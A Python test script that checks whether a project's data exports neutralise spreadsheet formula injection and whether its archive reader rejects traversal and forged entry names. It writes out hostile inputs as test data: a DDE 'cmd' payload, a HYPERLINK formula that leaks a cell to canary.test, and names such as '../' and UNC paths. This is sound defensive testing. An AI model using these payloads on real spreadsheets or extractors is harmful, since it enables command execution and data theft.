"""F14: what a spreadsheet would run of an export, and which names an archive holds or lets in.

python tests/figures/f14_exports.py
"""

import csv
import io
import json
import sys
import tempfile
import warnings
import zipfile
from dataclasses import dataclass, field
from itertools import product
from pathlib import Path
from xml.etree import ElementTree as ET

ROOT = Path(__file__).parents[2]
sys.path[:0] = [one for one in (str(ROOT),) if one not in sys.path]

import pandas as pd  # noqa: E402

from tests.figures.payloads import payloads  # noqa: E402
from yubo_nb.api.models import decode_task  # noqa: E402
from yubo_nb.data import export, frame  # noqa: E402
from yubo_nb.data.archive import _ENTRY, Archive  # noqa: E402
from yubo_nb.history import History  # noqa: E402

SIGNS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "﹦", "−", "\t=", "\r\n="]
BEFORE = ["", " ", "\u00a0", "\u200b", "\ufeff", "\x00", "\u202e", "\n", "x;", "x\t", "x\n", "x; "]
AFTER = ["1+1", "SUM(A1)", 'HYPERLINK("http://canary.test/?"&A1)', "cmd|' /C calc'!A0", "ar 3:2"]
FORMULAS = ["".join(parts) for parts in product(BEFORE, SIGNS, AFTER)]
# What a spreadsheet may take for the beginning of a formula, however its separator is set. Numbers are none.
STARTS = tuple("=+-@\t\r＝＋－＠﹦﹢﹣﹫−")
UNSEEN = " \u00a0\u200b\u200c\u200d\u2060\ufeff\u202a\u202b\u202d\u202e\x00\n"


def starts(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return cell.lstrip(UNSEEN).startswith(STARTS)
    return False


def parts(cell: str) -> list[str]:
    """A cell as a spreadsheet with another separator cuts it."""
    for separator in ";\t\r\n":
        cell = cell.replace(separator, "\0;")
    return [cell.replace("\0;", ";")] if "\0;" not in cell else [cell.split("\0;")[0], *cell.split("\0;")[1:]]


def csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


def xlsx_cells(path: Path) -> tuple[list[str], int]:
    """The texts, and how many cells are formulas by their kind."""
    with zipfile.ZipFile(path) as book:
        root = ET.fromstring(book.read("xl/worksheets/sheet1.xml"))
    cells = [node for node in root.iter() if node.tag.endswith("}c")]
    texts = [
        "".join(part.text or "" for part in cell.iter()) for cell in cells if cell.get("t") == "inlineStr"
    ]
    return texts, sum(node.tag.endswith("}f") for node in root.iter())


UNSAFE = [
    f"{before}{name}{after}"
    for before in (
        "",
        "../",
        "..\\",
        "/",
        "\\\\host\\",
        "C:\\",
        "C:",
        "./",
        "pictures/../",
        "pictures\\",
        "~/",
        "\x00",
    )
    for name in ("evil", "tasks.csv", "a" * 64 + ".png", "con", "x" * 300, "\u202egnp", "..")
    for after in ("", "/", "\x00.png", ".exe", ":stream", " ", ".")
    if _ENTRY.fullmatch(f"{before}{name}{after}") is None
]


def forged(path: Path, name: str) -> Path:
    entry = zipfile.ZipInfo("x")
    entry.filename = name
    with zipfile.ZipFile(path, "w") as target:
        target.writestr("yubo_nb.json", json.dumps({"format": 1}))
        target.writestr("tasks.json", "[]")
        target.writestr(entry, b"x")
    return path


@dataclass
class Result:
    texts: int = 0
    cells: int = 0
    formulas: list[str] = field(default_factory=list)
    control: int = 0
    changed: int = 0
    names: int = 0
    unsafe: list[str] = field(default_factory=list)
    forged: int = 0
    let_in: list[str] = field(default_factory=list)


def measure(step: int = 1) -> Result:
    """Every `step`-th text as prompt, label, reason and id of a task, exported in every format."""
    from PIL import Image

    texts = [*FORMULAS, *(text for _, text in payloads())][::step]
    result = Result(texts=len(texts))
    out = io.BytesIO()
    Image.new("RGB", (8, 8)).save(out, "PNG")
    with tempfile.TemporaryDirectory() as place, History(Path(place) / "history.sqlite3") as history:
        folder = Path(place)
        for number, text in enumerate(texts):
            row = {
                "id": f"{text}{number}",
                "action": text,
                "status": "FAILURE",
                "prompt": text,
                "failReason": text,
            }
            stored = history.record("https://relay.test", decode_task(json.dumps(row).encode()))
            if number % 50 == 0:
                picture = history.pictures.add(out.getvalue())
                history.picture_for("https://relay.test", stored.task_id, picture.hash)
        table = frame.tasks(history)
        found = csv_cells(export.save(history, folder / "t.csv"))
        sheet, kinds = xlsx_cells(export.save(history, folder / "t.xlsx"))
        result.cells = len(found) + len(sheet)
        result.formulas = [cell for cell in found for part in parts(cell) if starts(part)]
        result.formulas += [cell for cell in sheet if starts(cell)] + ["<f>"] * kinds
        result.control = sum(map(starts, csv_cells(export.save(history, folder / "raw.csv", raw=True))))
        rows = json.loads(export.save(history, folder / "t.json").read_bytes())
        kept = pd.read_parquet(export.save(history, folder / "t.parquet"))
        for name in ("id", "prompt", "fail_reason"):
            result.changed += sum(row[name] != value for row, value in zip(rows, table[name], strict=True))
            result.changed += sum(a != b for a, b in zip(kept[name], table[name], strict=True))
        path = export.save(history, folder / "t.zip")
        with zipfile.ZipFile(path) as archive:
            result.names = len(archive.namelist())
            result.unsafe = [name for name in archive.namelist() if _ENTRY.fullmatch(name) is None]
        with Archive(path) as archive:
            archive.tasks(), [archive.picture(one) for one in archive.pictures]
        for name in UNSAFE[::step]:
            result.forged += 1
            with warnings.catch_warnings():
                warnings.simplefilter(
                    "ignore"
                )  # zipfile warns of a name that is there twice: that is the attack
                bad = forged(folder / "bad.zip", name)
            try:
                Archive(bad).close()
            except ValueError:
                continue
            result.let_in.append(name)
    return result


def main() -> int:
    got = measure()
    print(
        f"F14: {len(got.formulas)} of {got.cells} cells start a formula in CSV and XLSX "
        f"({got.control} with raw=True), {got.changed} texts changed in JSON and Parquet; "
        f"{len(got.unsafe)} of {got.names} archive names unsafe, "
        f"{len(got.let_in)} of {got.forged} forged archives let in"
    )
    for text in [*got.formulas[:5], *got.unsafe[:5], *got.let_in[:5]]:
        print(f"    {text!r}")
    return 1 if got.formulas or got.changed or got.unsafe or got.let_in else 0


if __name__ == "__main__":
    sys.exit(main())
